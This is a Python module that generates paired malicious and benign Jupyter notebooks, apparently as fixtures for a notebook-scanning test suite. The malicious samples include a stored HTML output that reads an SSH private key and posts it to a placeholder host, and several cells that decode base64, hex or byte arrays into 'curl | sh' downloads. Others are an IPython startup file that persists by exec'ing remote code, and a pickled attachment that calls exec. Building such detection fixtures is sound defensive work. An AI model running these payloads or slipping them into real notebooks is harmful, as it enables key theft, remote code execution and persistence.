"""Notebooks: stored scripts, magics, start-up files, other kernels and an attachment that is a pickle."""
import base64
import json

from assembly import call, glob, pickle
from pair import CODE

RAW = "http://203.0.113.31"


def notebook(cells, kernel="python3", language="python"):
    """`cells`: source text, ("markdown", text, extra) or ("code", text, outputs)."""
    out = []
    for n, cell in enumerate(cells):
        kind, source, extra = cell if isinstance(cell, tuple) else ("code", cell, [])
        entry = {"cell_type": kind, "id": f"cell{n:04d}", "metadata": {}, "source": source.splitlines(True)}
        if kind == "code":
            entry.update({"execution_count": n, "outputs": extra})
        else:
            entry.update(extra)
        out.append(entry)
    return json.dumps({"cells": out, "metadata": {"kernelspec": {"display_name": kernel, "language": language, "name": kernel}, "language_info": {"name": language}}, "nbformat": 4, "nbformat_minor": 5}, indent=1)


def shown(kind, data):
    return [{"output_type": "display_data", "metadata": {}, "data": {kind: data.splitlines(True), "text/plain": ["<report>"]}}]


INTRO = ("markdown", "# Fine-tuning a small classifier\n\nLoad the weights, then evaluate.", {})
LOAD = "from safetensors.numpy import load_file\nweights = load_file('model.safetensors')"


def add(s):
    steal = f"<img src=x onerror=\"fetch('/api/contents/.ssh/id_ed25519').then(r=>r.text()).then(t=>fetch('{RAW}/k',{{method:'POST',body:t}}))\">"
    table = '<style scoped>.dataframe td { text-align: right; }</style><table class="dataframe"><tr><td><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="loss"></td><td>0.93</td></tr></table>'
    s.add("notebooks", "stored_output_reads_keys", notebook([INTRO, ("code", LOAD, shown("text/html", steal))]), notebook([INTRO, ("code", LOAD, shown("text/html", table))]), None, "train.ipynb",
          why="a stored output with an error handler reads a private key through the server's own API and posts it. Needs a browser, not run")
    drop = "%%bash\nset -e\np=$(printf '%s' 'Y3VybCAtZnNTIGh0dHA6Ly8yMDMuMC4xMTMuMzEvaS5zaCB8IHNo' | base64 -d)\neval \"$p\""
    s.add("notebooks", "bash_cell_decodes_a_command", notebook([INTRO, drop, LOAD]), notebook([INTRO, "%%bash\nset -e\np=$(printf '%s' 'bW9kZWwuc2FmZXRlbnNvcnM=' | base64 -d)\nls -l \"$p\"", LOAD]), None, "train.ipynb",
          why="the cell evaluates a base64 text that pipes a download into a shell. Needs the network, not run")
    kernel = "%%javascript\nconst k = Jupyter.notebook.kernel;\nk.execute(atob('aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtZnNTIGh0dHA6Ly8yMDMuMC4xMTMuMzEvaS5zaHxzaCIp'));"
    s.add("notebooks", "browser_script_runs_the_kernel", notebook([INTRO, kernel, LOAD]), notebook([INTRO, "%%javascript\nIPython.OutputArea.prototype._should_scroll = function(lines) { return false; };\nconsole.log(atob('bG9hZGVk'));", LOAD]), None, "train.ipynb",
          why="a script cell sends decoded Python to the kernel, which runs a download in a shell. Needs a browser, not run")
    r = "m <- readRDS('fit.rds')\nf <- get(paste0('sys', 'tem'))\nf(rawToChar(as.raw(c(0x63,0x75,0x72,0x6c,0x20,0x2d,0x73,0x20,0x68,0x74,0x74,0x70,0x3a,0x2f,0x2f,0x32,0x30,0x33,0x2e,0x30,0x2e,0x31,0x31,0x33,0x2e,0x33,0x31,0x7c,0x73,0x68))))"
    s.add("notebooks", "r_kernel_spells_a_command", notebook([INTRO, r], "ir", "R"), notebook([INTRO, "m <- readRDS('fit.rds')\nf <- get(paste0('sum', 'mary'))\nprint(f(m))\nmessage(rawToChar(as.raw(c(0x64,0x6f,0x6e,0x65))))"], "ir", "R"), None, "fit.ipynb",
          why="an R cell spells system and a command that pipes a download into a shell. No R here, not run")
    startup = f"%%writefile ~/.ipython/profile_default/startup/00-cache.py\nimport urllib.request\nexec(urllib.request.urlopen('{RAW}/c.py').read())"
    s.add("notebooks", "kernel_startup_file", notebook([INTRO, startup, LOAD]), notebook([INTRO, "%%writefile config.py\nimport urllib.request\nBASE = 'https://huggingface.co/example/tiny/resolve/main'", LOAD]), None, "train.ipynb",
          why="writes a start-up file of every later kernel that runs what it downloads: persistence in the home folder, not run")
    magic = "ip = get_ipython()\nip.run_cell_magic(bytes.fromhex('7368').decode(), '', bytes.fromhex('6375726c202d7320687474703a2f2f3230332e302e3131332e33312f692e7368207c207368').decode())"
    s.add("notebooks", "magic_named_at_run_time", notebook([INTRO, magic, LOAD]), notebook([INTRO, "ip = get_ipython()\nip.run_line_magic(bytes.fromhex('6d6174706c6f746c6962').decode(), 'inline')", LOAD]), None, "train.ipynb",
          why="the sh magic and its download come from hexadecimal. Needs the network, not run")
    julia = 'using Flux, BSON\nBSON.@load "model.bson" model\nrun(pipeline(`curl -fsS http://203.0.113.31/i.sh`, `sh`))'
    s.add("notebooks", "julia_kernel_pipeline", notebook([INTRO, julia], "julia-1.10", "julia"), notebook([INTRO, 'using Flux, BSON\nBSON.@load "model.bson" model\nprintln(read(pipeline(`ls -l model.bson`, `wc -l`), String))'], "julia-1.10", "julia"), None, "flux.ipynb",
          why="a Julia cell pipes a download into a shell. No Julia here, not run")
    use = "import base64, json\nfrom {library}\ncell = json.load(open('train.ipynb'))['cells'][0]\ndata = base64.b64decode(cell['attachments']['plot.png']['image/png'])\n{call}"
    picture = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
    held = lambda data: ("markdown", "![plot](attachment:plot.png)", {"attachments": {"plot.png": {"image/png": base64.b64encode(data).decode()}}})  # noqa: E731
    s.add("notebooks", "attachment_is_a_pickle", notebook([held(pickle(call(glob("builtins", "exec"), CODE))), use.format(library="pickle import loads", call="state = loads(data)")]), notebook([held(picture), use.format(library="zlib import crc32", call="print(crc32(data), len(data))")]), "10/ipynb", "train.ipynb",
          why="the picture attached to a text cell is a pickle that calls exec; a later cell loads it")
